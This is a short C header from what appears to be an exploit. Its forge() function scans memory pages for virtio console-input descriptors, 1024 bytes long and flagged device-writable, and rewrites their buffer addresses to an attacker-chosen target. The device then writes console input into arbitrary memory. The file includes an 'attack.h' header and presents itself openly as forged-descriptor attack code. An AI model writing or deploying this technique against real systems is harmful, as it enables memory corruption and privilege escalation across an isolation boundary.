/* Descriptors of the console's input, forged. */
#ifndef DESCRIPTORS_H
#define DESCRIPTORS_H

#include "attack.h"
#include "processor.h"

enum { INPUT_BYTES = 1024, DEVICE_WRITES = 2 };  /* flags: VIRTQ_DESC_F_WRITE (virtio 1.2, section 2.7.5) */

/* Points every descriptor that lies ready for the console's input at `target`, and says how many. They lie behind the page of the
 * application's data: an address, 32 bits of length, 16 of flags and 16 of the next one's number. */
static inline int forge(volatile uint64_t *target) {
  int found = 0;
  for (uint64_t page = ((uint64_t)&count & ~0xfffull) + PAGE; page < 0x400000; page += PAGE) {
    if (!leaf((void *)page)) continue;
    for (uint64_t at = page; at < page + PAGE; at += 16) {
      volatile uint64_t *const descriptor = (volatile uint64_t *)at;
      const uint64_t address = descriptor[0], rest = descriptor[1];
      if ((uint32_t)rest != INPUT_BYTES || (rest >> 32 & 0xffff) != DEVICE_WRITES || address < 0x100000) continue;
      descriptor[0] = (uint64_t)target;
      found++;
    }
  }
  return found;
}

#endif
